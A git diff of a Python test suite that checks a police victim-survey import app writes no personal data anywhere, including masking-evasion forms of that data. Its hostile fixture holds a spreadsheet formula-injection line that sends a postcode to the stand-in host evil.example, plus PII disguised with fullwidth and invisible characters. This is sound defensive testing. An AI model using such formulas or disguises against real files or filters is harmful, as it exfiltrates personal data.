@@ -1,17 +1,27 @@
-"""Every byte the app and the CLI write is searched for every piece of survey PII fed in.
+"""Every byte the app and the CLI write is searched for every piece of survey PII fed in, in every disguise.
 
 One victim export carries personal data everywhere a careless or hostile export could:
 the PII columns, the free text, labels, the date, the ID, an extra column's header, the
-file name. It is imported through the CLI (valid rows, rejects kept aside) and through the
-Upload page, then read back by every CLI command and the comments page. The store's
-files (raw bytes and, for Parquet, decoded values), the rejects file, the upload log,
-stdout, stderr, log records, warnings, every element AppTest sees and every download the
-page offers must hold none of it.
+file name; and the forms an attacker used to slip past masking (issue 20: a fullwidth ``＠``,
+zero-width spaces, fullwidth and Arabic-Indic digits, phone numbers with two spaces, slashes or
+44 without a +, crime references with dashes, dots, spaced slashes or backslashes, an NI number
+and a postcode with dashes). It is imported through the CLI (valid rows, rejects kept aside) and
+through the Upload page, then read back by every CLI command and the comments page. The store's
+files (raw bytes, the Delta log's JSON with its min/max statistics, and Parquet decoded), the
+rejects file, stdout, stderr, log records, warnings, every element AppTest sees and every
+download the page offers must hold none of it.
+
+A value is found however it was written back: the search reads everything normalised by its own
+means (``unicodedata``, not the product's code) and lets any few separators stand between the
+value's letters and digits, so a writer that stored ``07700 900472`` for ``０７７００ ９００４７２`` is
+caught. ``test_the_search_finds_what_weakened_masking_lets_through`` checks that it is.
 """
 
 from __future__ import annotations
 
 import logging
+import re
+import unicodedata
 import warnings
 from pathlib import Path
 
@@ -21,25 +31,32 @@ from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
 from streamlit.testing.v1 import AppTest
 
 from insight.cli import main
+from insight.intake import masking, tidy
 from tests.conftest import REPO
-from tests.hostile import PII
+from tests.hostile import DISGUISED, PII
 from tests.messy import read_rows, write_rows
 
 HOSTILE_NAME = f"victims for {PII['email']} {PII['phone_mobile']}.csv"
+DIGITS = {
+    c: str(unicodedata.decimal(c)) for c in map(chr, range(0x80, 0x20000)) if unicodedata.decimal(c, None) is not None
+}
 
 
 def hostile_export(example: bytes) -> tuple[bytes, set[str]]:
-    """The victim example with PII in every place; and every PII string in it."""
+    """The victim example with PII in every place and every disguise; and every PII string in it."""
     rows = read_rows(example)
     header = rows[0]
     col = {name: i for i, name in enumerate(header)}
-    fed = set(PII.values())
+    fed = set(PII.values()) | set(DISGUISED.values())
     for row in rows[1:]:
         fed.update([row[col["Crime Reference"]], row[col["Email Address"]]])
     # the free text: every form, several per comment
     forms = list(PII.values())
     for n, row in enumerate(rows[1:11]):
         row[col["Any other comments?"]] = f"ring {forms[n % len(forms)]} or write {forms[(n + 3) % len(forms)]}"
+    disguised = list(DISGUISED.values())
+    for n, row in enumerate(rows[24 : 24 + len(disguised)]):
+        row[col["Any other comments?"]] = f"it is {disguised[n]}, or {disguised[(n + 5) % len(disguised)]}."
     rows[11][col["Offence Group"]] = PII["email"]  # an unknown label holding PII
     rows[12][col["Contact Method"]] = PII["phone_landline"]
     rows[13][col["Survey Completed"]] = f"call {PII['phone_intl']}"  # an unreadable date
@@ -48,33 +65,60 @@ def hostile_export(example: bytes) -> tuple[bytes, set[str]]:
     rows[16][col["Q1 How satisfied were you with the initial contact you had with West Midlands Police?"]] = (
         f'=HYPERLINK("https://evil.example/{PII["postcode"]}")'
     )
+    # IDs and labels in disguise
+    rows[17][col["Response ID"]] = DISGUISED["ni_dashes"]
+    rows[18][col["Response ID"]] = DISGUISED["postcode_dash"]
+    rows[19][col["Response ID"]] = DISGUISED["phone_fullwidth"]
+    rows[20][col["Response ID"]] = DISGUISED["email_fullwidth_at"]
+    rows[21][col["Offence Group"]] = DISGUISED["phone_arabic_indic"]
+    rows[22][col["Contact Method"]] = DISGUISED["crime_ref_backslashes"]
     rows[0] = [*header, f"notes for {PII['email']}"]
     for row in rows[1:]:
         row.append(PII["ni_number"])
     return write_rows(rows), {v for v in fed if v}
 
 
-def variants(value: str) -> set[str]:
-    """A value as typed and in the forms a writer might normalise it to."""
-    return {value, value.lower(), value.upper(), value.replace(" ", ""), value.strip()}
+def normalised(text: str) -> str:
+    """Text as a determined reader would read it back: NFKC, invisible characters out, ASCII digits, lower case."""
+    text = unicodedata.normalize("NFKC", text)
+    text = "".join(c for c in text if unicodedata.category(c) not in ("Cf", "Mn") and (c in "\t\n\r" or
+                   unicodedata.category(c) != "Cc"))  # fmt: skip
+    return "".join(DIGITS.get(c, c) for c in text).casefold()
+
+
+def trace(value: str) -> re.Pattern[str]:
+    """The value's letters, digits and @, in order, with at most three other characters between any two, not
+    inside a longer run of letters and digits (a hash, a file's UUID)."""
+    kept = [c for c in normalised(value) if c.isalnum() or c == "@"]
+    return re.compile(r"(?<![0-9a-z])" + r"[^0-9a-z@]{0,3}".join(map(re.escape, kept)) + r"(?![0-9a-z])")
 
 
 def leaks(text: str, fed: set[str]) -> list[str]:
-    lowered = text.lower()
-    return sorted({v for value in fed for v in variants(value) if v and v.lower() in lowered})
+    """The values fed that can be read back from ``text``, in any case, spacing or disguise."""
+    readable = normalised(text)
+    return sorted(value for value in fed if trace(value).search(readable))
 
 
-def stored_text(folder: Path) -> str:
-    """Every file under the store as bytes, and Parquet files' values decoded too."""
-    parts = []
+def literal_leaks(data: str, fed: set[str]) -> list[str]:
+    """The values fed that appear as written or as normalised in raw bytes (compressed pages are decoded apart)."""
+    lowered = data.lower()
+    forms = {value: {value.lower(), normalised(value), value.lower().replace(" ", "")} for value in fed}
+    return sorted(value for value, written in forms.items() if any(w and w in lowered for w in written))
+
+
+def stored_text(folder: Path) -> tuple[str, str]:
+    """Every file under the store: text files and Parquet files' decoded values, and Parquet files' raw bytes."""
+    text, raw = [], []
     for path in sorted(p for p in folder.rglob("*") if p.is_file()):
         data = path.read_bytes()
-        parts.append(data.decode("utf-8", errors="replace"))
-        parts.append(path.name)
+        text.append(path.name)
         if path.suffix == ".parquet":
+            raw.append(data.decode("utf-8", errors="replace"))
             frame = pl.read_parquet(path)
-            parts.append(frame.select(pl.all().cast(pl.String)).write_csv())
-    return "\n".join(parts)
+            text.append(frame.select(pl.all().cast(pl.String)).write_csv())
+        else:  # the Delta log's JSON (commit metadata, min/max statistics), the rejects CSV, the access log
+            text.append(data.decode("utf-8", errors="replace"))
+    return "\n".join(text), "\n".join(raw)
 
 
 @pytest.fixture()
@@ -112,7 +156,7 @@ def test_no_survey_pii_in_anything_written(example, data_dir, tmp_path, capsys, 
     monkeypatch.setenv("INSIGHT_SAMPLES", "off")
     caplog.set_level(logging.DEBUG)
     data, fed = hostile_export(example)
-    assert len(fed) > 40
+    assert len(fed) > 50
     path = tmp_path / HOSTILE_NAME
     path.write_bytes(data)
     seen: list[str] = []
@@ -153,10 +197,51 @@ def test_no_survey_pii_in_anything_written(example, data_dir, tmp_path, capsys, 
     seen += [str(w.message) for w in caught]
     seen += [r.getMessage() for r in caplog.records]
     seen += [d.decode("utf-8", errors="replace") for d in downloads]
-    seen.append(stored_text(data_dir))
+    store_text, store_raw = stored_text(data_dir)
+    seen.append(store_text)
 
     assert list((data_dir / "rejected").glob("*.csv")), "the rejects were written, so they were searched"
+    assert list((data_dir / "victim" / "_delta_log").glob("*.json")), "the table log was searched"
     assert downloads, "the page offered downloads, so they were searched"
-    assert "[email]" in seen[-1] or "[phone]" in seen[-1], "masked comments reached the store"
+    assert "[email]" in store_text and "[phone]" in store_text and "[crime ref]" in store_text, "masked text stored"
+    assert "ID looks like an NI number" in "\n".join(seen) and "ID looks like a postcode" in "\n".join(seen)
     everything = "\n".join(seen)
     assert leaks(everything, fed) == []
+    assert literal_leaks(store_raw, fed) == []
+
+
+# The patterns as they were before issue 20: one space, dot or hyphen between digits, slashes only in crime references.
+EARLIER_PATTERNS = {
+    "[crime ref]": r"(?i)\b\d{2}[A-Z]{0,4}/\d{3,8}[A-Z]?/\d{2}\b",
+    "[NI number]": r"(?i)\b[A-CEGHJ-PR-TW-Z][A-CEGHJ-NPR-TW-Z] ?\d{2} ?\d{2} ?\d{2} ?[A-D]\b",
+    "[phone]": (
+        r"(?:(?:\(\+44\)|\+44|\b0044)[ .\-]?(?:\(0\)[ .\-]?)?\d(?:[ .\-]?\d){8,9}"
+        r"|\(0\d{2,4}\)[ .\-]?\d(?:[ .\-]?\d){5,7}"
+        r"|\b0\d(?:[ .\-]?\d){8,9})\b"
+    ),
+}
+
+
+def _without_normalising(monkeypatch):
+    monkeypatch.setattr(masking, "normalise_expr", lambda expr: expr)
+    monkeypatch.setattr(tidy, "normalise_expr", lambda expr: expr)
+
+
+def _earlier_patterns(monkeypatch):
+    for tag, pattern in EARLIER_PATTERNS.items():
+        monkeypatch.setitem(masking.PATTERNS, tag, pattern)
+
+
+@pytest.mark.parametrize("weaken", [_without_normalising, _earlier_patterns])
+def test_the_search_finds_what_weakened_masking_lets_through(weaken, example, data_dir, tmp_path, capsys, monkeypatch):
+    """The same import with masking weakened as it was before: the search above must find the disguised forms."""
+    data, fed = hostile_export(example)
+    path = tmp_path / "hostile.csv"
+    path.write_bytes(data)
+    weaken(monkeypatch)
+    assert main(["ingest", "victim", str(path), "--skip-invalid"]) == 0
+    out = capsys.readouterr()
+    store_text, _ = stored_text(data_dir)
+    found = leaks("\n".join([out.out, out.err, store_text]), fed)
+    assert set(found) & set(DISGUISED.values()), found
+    assert set(found) <= set(DISGUISED.values()), "only the disguises get through weakened masking"
